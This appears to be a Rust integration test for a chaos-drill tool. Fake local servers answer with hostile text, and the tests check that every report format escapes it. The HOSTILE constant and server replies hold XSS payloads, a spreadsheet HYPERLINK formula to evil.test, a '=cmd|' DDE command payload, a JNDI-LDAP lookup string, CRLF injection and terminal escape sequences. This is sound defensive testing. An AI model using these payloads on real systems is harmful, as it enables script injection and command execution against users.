//! What comes from outside is shown and never obeyed: servers and programs that answer with markup, terminal
//! sequences, formulas, line ends, reordering marks, NUL and far too much, through every format.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use quick_xml::events::Event;
use serde_json::Value;

use crate::support::{Ran, firedrill, said};

/// What a hostile answer holds; each of them is dangerous somewhere.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.test\",\"x\")",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
    "\r\nInjected: a line\r\n",
    "\u{202e}txt.exe\u{2066}\u{200f}\u{061c}\u{2028}",
    "\0NUL",
    "[x](javascript:alert(1)) | cell | ``` @everyone #1",
    "]]> &bogus; <!-- -->",
    "\n# EOF\nfiredrill_verdict 1\n",
    "\\\" \\n {{7*7}} ${jndi:ldap://evil}",
    "\u{feff}\u{fffe}\u{85}",
];

/// As some clients would start a formula.
const FORMULAS: [&str; 5] = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1"];

const MIB: usize = 1 << 20;

fn hostile() -> String {
    HOSTILE.concat()
}

/// A Redis that answers the first commands with an error of these words, and so does all later ones.
fn redis(words: String) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let answer = format!("-ERR {}\r\n", words.replace(['\r', '\n'], " "));
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                while let Ok(1..) = stream.read(&mut [0; 4096]) {
                    if stream.write_all(answer.as_bytes()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    address
}

/// A web server whose reason, identity and body are hostile, as far as HTTP lets a header be.
fn web(broken: PathBuf) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
            let _ = stream.read(&mut [0; 4096]);
            let status = if broken.exists() { 500 } else { 200 };
            let body = hostile().repeat(3);
            let _ = write!(
                stream,
                "HTTP/1.1 {status} <script>alert(1)</script>\r\nx-who: =cmd|' /C calc'!A0 <script>alert(1)</script> \
                 \u{202e}\u{1f4a3}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    address
}

struct Bed {
    folder: tempfile::TempDir,
}

impl Bed {
    fn new() -> Bed {
        let folder = tempfile::tempdir().expect("a folder");
        std::fs::write(folder.path().join("words"), hostile()).expect("written");
        std::fs::write(folder.path().join("much"), hostile() + &"A".repeat(MIB)).expect("written");
        let lines: String = FORMULAS.iter().map(|formula| format!("{formula}\n")).collect();
        std::fs::write(folder.path().join("formulas"), lines).expect("written");
        Bed { folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Every kind of thing from outside in one drill: answers, identities, errors, output.
    fn run(&self) -> Ran {
        let web = web(self.path("broken"));
        let (redis, much) = (redis(hostile()), redis(hostile() + &"B".repeat(MIB)));
        let mut probes = format!(
            "  web:\n    http: {{ url: \"http://{web}/\", identity_header: x-who }}\n    every: 100ms\n  \
             redis:\n    redis: {{ dsn: \"redis://{redis}/0\" }}\n    every: 200ms\n  \
             much:\n    redis: {{ dsn: \"redis://{much}/0\" }}\n    every: 300ms\n"
        );
        let folder = self.folder.path().display();
        for nth in 1..=FORMULAS.len() {
            probes.push_str(&format!(
                "  formula{nth}:\n    command:\n      run: [sed, -n, {nth}p, {folder}/formulas]\n      names_who: true\n      timeout: 1s\n    \
                 every: 500ms\n"
            ));
        }
        probes.push_str(&format!(
            "  who:\n    command:\n      run: [sh, -c, 'tr -d \"\\r\\n\" < {folder}/words; echo; test ! -e {folder}/broken']\n      \
             names_who: true\n      timeout: 1s\n    every: 300ms\n"
        ));
        let text = format!(
            "kind: Experiment\nname: hostile\ntitle: \"<script>alert(1)</script> | \\e[2J \\u202e\"\n\
             hypothesis: \"=HYPERLINK(1)\"\nowner: \"</title><script>alert(1)</script>\"\n\
             objectives: {{ rto: 3s, availability: 10% }}\nprobes:\n{probes}\
             steady_state: {{ for: 4s, availability: 0% }}\nsteps:\n\
             \x20 - name: \"step </script><script>alert(1)</script> \\u202e =1\"\n    \
             run: [sh, -c, 'cat {folder}/much {folder}/words; touch {folder}/broken; sleep 1; rm {folder}/broken']\n\
             \x20 - name: a failure\n    run: [sh, -c, 'cat {folder}/words >&2; exit 3']\n    on_failure: continue\n\
             recovery: {{ confirm: 500ms, within: 4s }}\n"
        );
        let file = self.path("drill.yaml");
        std::fs::write(&file, text).expect("written");
        Ran::run(&file, &self.path("runs"), &["--seed", "1"])
    }

    fn report(&self, ran: &Ran, format: &str) -> String {
        let output = firedrill()
            .arg("report")
            .arg(ran.report["run"].as_str().expect("a run id"))
            .args(["--format", format, "--store"])
            .arg(self.path("runs"))
            .output()
            .expect("the binary runs");
        String::from_utf8(output.stdout.clone()).unwrap_or_else(|_| panic!("no UTF-8: {}", said(&output)))
    }
}

/// The characters that steer a terminal or reorder what is read, line ends apart.
fn steering(text: &str) -> Vec<char> {
    let bad = |c: &char| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
            || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}')
    };
    text.chars().filter(bad).collect()
}

fn inert(what: &str, text: &str) {
    assert_eq!(steering(text), Vec::<char>::new(), "{what} steers: {text}");
    assert!(
        !text.lines().any(|line| line.trim_start().starts_with("Injected:")),
        "{what}: a line of its own: {text}"
    );
}

fn people_see_nothing_move(output: &Output) {
    inert("standard error", &String::from_utf8_lossy(&output.stderr));
}

/// The cells of CSV.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    rows
}

fn csv_is_inert(text: &str) {
    inert("csv", text);
    let rows = cells(text);
    let width = rows.first().expect("a head").len();
    let mut identities = std::collections::BTreeSet::new();
    for row in &rows {
        assert_eq!(row.len(), width, "{row:?}");
        for cell in row {
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula: {cell}");
        }
        identities.insert(row[9].clone());
    }
    assert!(identities.iter().any(|who| who.contains("cmd|")), "the identity is there: {identities:?}");
}

fn xml_is_inert(text: &str) {
    // The text of an element may be of several lines.
    assert_eq!(steering(text), Vec::<char>::new(), "junit steers: {text}");
    let mut reader = quick_xml::Reader::from_str(text);
    let mut names = std::collections::BTreeSet::new();
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Start(tag) | Event::Empty(tag) => {
                names.insert(String::from_utf8_lossy(tag.name().as_ref()).into_owned());
            }
            Event::Eof => break,
            _ => {}
        }
    }
    let known =
        ["testsuites", "testsuite", "properties", "property", "testcase", "failure", "error", "skipped"];
    let known = |name: &String| known.contains(&name.as_str()) || name.starts_with("system-");
    assert!(names.iter().all(known), "{names:?}");
}

fn openmetrics_is_inert(text: &str) {
    inert("openmetrics", text);
    assert_eq!(text.lines().filter(|line| *line == "# EOF").count(), 1);
    assert!(text.ends_with("# EOF\n"));
    for line in text.lines() {
        assert!(line.starts_with("# ") || line.starts_with("firedrill_"), "{line}");
        assert!(line != "firedrill_verdict 1", "a metric from outside");
    }
}

#[test]
fn what_comes_from_outside_is_shown_and_never_obeyed() {
    let bed = Bed::new();
    let ran = bed.run();
    people_see_nothing_move(&ran.output);
    let told = said(&ran.output);
    assert!(ran.phase("steps").is_some(), "the drill never began: {told}");

    inert("text", &bed.report(&ran, "text"));
    csv_is_inert(&bed.report(&ran, "csv"));
    xml_is_inert(&bed.report(&ran, "junit"));
    openmetrics_is_inert(&bed.report(&ran, "openmetrics"));

    let html = bed.report(&ran, "html");
    inert("html", &html);
    for tag in ["<script", "<img", "</title><script", "javascript:alert(1)\"", "onerror=alert(1)>"] {
        assert!(!html.contains(tag), "{tag} is markup in the page");
    }
    assert!(html.contains("&lt;script&gt;"), "what was answered is shown");

    let markdown = bed.report(&ran, "md");
    inert("markdown", &markdown);
    for markup in ["<script", "<img", "[x](javascript", "\n```", "@everyone", " | cell | "] {
        assert!(!markdown.contains(markup), "{markup} is markup in {markdown}");
    }

    let json: Value = serde_json::from_str(&bed.report(&ran, "json")).expect("JSON");
    assert_eq!(json["experiment"], "hostile");
    for line in bed.report(&ran, "jsonl").lines() {
        serde_json::from_str::<Value>(line).expect("JSON");
    }
    for line in bed.report(&ran, "hlog").lines() {
        assert!(line.starts_with('#') || line.starts_with("Tag=") || line.starts_with('"'), "{line}");
    }
}

#[test]
fn too_much_from_outside_stays_small() {
    let bed = Bed::new();
    let ran = bed.run();
    let mut sizes = Vec::new();
    for entry in std::fs::read_dir(&ran.dir).expect("the run").flatten() {
        let size = entry.metadata().expect("a size").len();
        sizes.push((entry.file_name().to_string_lossy().into_owned(), size));
    }
    for (name, size) in &sizes {
        assert!(*size < MIB as u64, "{name} is too large: {sizes:?}");
    }
    let longest = String::from_utf8_lossy(&ran.output.stderr).lines().map(str::len).max();
    assert!(longest < Some(40_000), "a line of {longest:?} bytes for people");
}

/// A drill that cannot begin tells the words of the server that was in the way.
#[test]
fn an_error_before_the_run_is_inert_too() {
    let bed = Bed::new();
    let address = redis(hostile() + &"B".repeat(40_000));
    let folder: &Path = bed.folder.path();
    let text = format!(
        "kind: Experiment\nname: refused\nobjectives: {{ rto: 1s, rpo: 0s }}\nprobes:\n  entries:\n    redis.ledger: {{ dsn: \
         \"redis://{address}/0\" }}\nsteady_state: {{ for: 1s }}\nsteps:\n  - name: x\n    run: [\"true\"]\n\
         recovery: {{ confirm: 1s, within: 2s }}\n"
    );
    let file = folder.join("refused.yaml");
    std::fs::write(&file, text).expect("written");
    let output = firedrill().arg("run").arg(&file).arg("--store").arg(folder).output().expect("runs");
    assert_eq!(output.status.code(), Some(3), "{}", said(&output));
    let told = String::from_utf8_lossy(&output.stderr);
    assert!(told.contains("script"), "the server's words are told: {told}");
    people_see_nothing_move(&output);
    assert!(told.len() < 50_000, "{} bytes are told", told.len());
}

#[test]
fn a_plan_steers_no_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("plan.yaml");
    let text = "kind: Experiment\nname: hostile\ntitle: \"a \\e[2J title\"\nobjectives: { rto: 1s }\nprobes:\n  web:\n    http: { url: \"http://127.0.0.1:9/\" }\n\
                steps:\n  - name: x\n    run: [\"printf\", \"\\e]0;owned\\a\\u202e\"]\nsteady_state: { for: 1s }\nrecovery: { confirm: 1s, within: 2s }\n";
    std::fs::write(&file, text).expect("written");
    for verb in [&["plan"][..], &["run", "--dry-run"]] {
        let output = firedrill().args(verb).arg(&file).current_dir(folder.path()).output().expect("runs");
        inert("plan", &String::from_utf8_lossy(&output.stdout));
        inert("what is said", &String::from_utf8_lossy(&output.stderr));
        assert!(said(&output).contains("printf"), "{}", said(&output));
    }
}
